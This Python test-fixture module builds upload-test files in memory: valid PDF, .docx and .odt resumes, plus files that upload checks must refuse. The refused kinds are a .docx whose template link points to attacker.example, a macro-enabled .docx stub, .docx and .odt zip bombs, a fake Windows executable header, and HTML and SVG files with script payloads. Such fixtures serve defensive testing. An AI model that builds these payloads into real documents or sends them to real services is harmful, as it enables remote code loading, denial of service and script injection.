"""Files for upload tests, built in memory: real PDFs (reportlab), real .docx and .odt packages,
and the kinds the upload checks must refuse."""

from __future__ import annotations

import io
import zipfile

RESUME_PHRASE = "Jane Quintero-Applicant, 1450 Palm Lane, jane.q@example.com"

DOCX_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.document.main+xml"/>'
    "</Types>"
)
DOCM_CONTENT_TYPES = DOCX_CONTENT_TYPES.replace(
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    "application/vnd.ms-word.document.macroEnabled.main+xml",
).replace(
    "</Types>",
    '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
)
PACKAGE_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="word/document.xml"/>'
    "</Relationships>"
)
HYPERLINK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/hyperlink" Target="https://www.linkedin.com/in/example" TargetMode="External"/>'
    "</Relationships>"
)
REMOTE_TEMPLATE_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/attachedTemplate" Target="http://attacker.example/t.dotm" '
    'TargetMode="External"/>'
    "</Relationships>"
)


def pdf_bytes(text: str = RESUME_PHRASE) -> bytes:
    """A one-page PDF with ``text`` in an uncompressed content stream (so it is findable)."""
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    page = canvas.Canvas(buffer, pageCompression=0)
    page.drawString(72, 720, text)
    page.showPage()
    page.save()
    return buffer.getvalue()


def docx_bytes(
    text: str = RESUME_PHRASE,
    *,
    content_types: str = DOCX_CONTENT_TYPES,
    document_rels: str = HYPERLINK_RELS,
    extra: dict[str, bytes] | None = None,
) -> bytes:
    document = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", content_types)
        package.writestr("_rels/.rels", PACKAGE_RELS)
        package.writestr("word/document.xml", document)
        package.writestr("word/_rels/document.xml.rels", document_rels)
        for name, data in (extra or {}).items():
            package.writestr(name, data)
    return buffer.getvalue()


def macro_docx_bytes() -> bytes:
    return docx_bytes(
        content_types=DOCM_CONTENT_TYPES,
        extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 Attribute VB_Name = AutoOpen"},
    )


def zip_bomb_docx_bytes(unpacked: int = 60 * 1024 * 1024) -> bytes:
    """A valid-looking .docx whose one extra part unpacks to ``unpacked`` bytes of zeros."""
    buffer = io.BytesIO(docx_bytes())
    chunk = b"\0" * (1024 * 1024)
    with (
        zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as package,
        package.open("word/media/padding.xml", "w", force_zip64=True) as part,
    ):
        for _ in range(unpacked // len(chunk)):
            part.write(chunk)
    return buffer.getvalue()


ODT_MIMETYPE = "application/vnd.oasis.opendocument.text"
ODT_MANIFEST = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
    'manifest:version="1.3">'
    '<manifest:file-entry manifest:full-path="/" manifest:version="1.3" '
    'manifest:media-type="application/vnd.oasis.opendocument.text"/>'
    '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
    '<manifest:file-entry manifest:full-path="styles.xml" manifest:media-type="text/xml"/>'
    "</manifest:manifest>"
)
ODT_NAMESPACES = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3"'
)


def odt_content(body: str) -> str:
    """A content.xml whose office:text holds ``body`` (ODF markup)."""
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        f"<office:document-content {ODT_NAMESPACES}><office:scripts/><office:body><office:text>"
        f"{body}</office:text></office:body></office:document-content>"
    )


def odt_bytes(
    text: str = RESUME_PHRASE,
    *,
    body: str | None = None,
    mimetype: str = ODT_MIMETYPE,
    manifest: str = ODT_MANIFEST,
    extra: dict[str, bytes] | None = None,
) -> bytes:
    """A real OpenDocument text package, as LibreOffice writes it: an uncompressed ``mimetype``
    first, then the manifest, content and styles (deflated)."""
    paragraphs = (
        body
        if body is not None
        else (
            f'<text:h text:outline-level="1">{text}</text:h>'
            '<text:p>Experience:<text:tab/>Network engineer,<text:s text:c="2"/>2019-2026'
            '<text:line-break/>See <text:a xlink:href="https://www.linkedin.com/in/example">'
            "my profile</text:a>.</text:p>"
        )
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr(zipfile.ZipInfo("mimetype"), mimetype, compress_type=zipfile.ZIP_STORED)
        package.writestr("META-INF/manifest.xml", manifest)
        package.writestr("content.xml", odt_content(paragraphs))
        package.writestr(
            "styles.xml", f'<?xml version="1.0"?><office:document-styles {ODT_NAMESPACES}/>'
        )
        for name, data in (extra or {}).items():
            package.writestr(name, data)
    return buffer.getvalue()


def zip_bomb_odt_bytes(unpacked: int = 60 * 1024 * 1024) -> bytes:
    """A valid-looking .odt whose one extra part unpacks to ``unpacked`` bytes of zeros."""
    buffer = io.BytesIO(odt_bytes())
    chunk = b"\0" * (1024 * 1024)
    with (
        zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as package,
        package.open("Pictures/padding.png", "w", force_zip64=True) as part,
    ):
        for _ in range(unpacked // len(chunk)):
            part.write(chunk)
    return buffer.getvalue()


WINDOWS_PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 50 + b"PE\x00\x00"
HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG_IMAGE = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
)
TEXT_RESUME = (RESUME_PHRASE + "\n\nExperience\n- Network engineer, 2019-2026\n").encode()
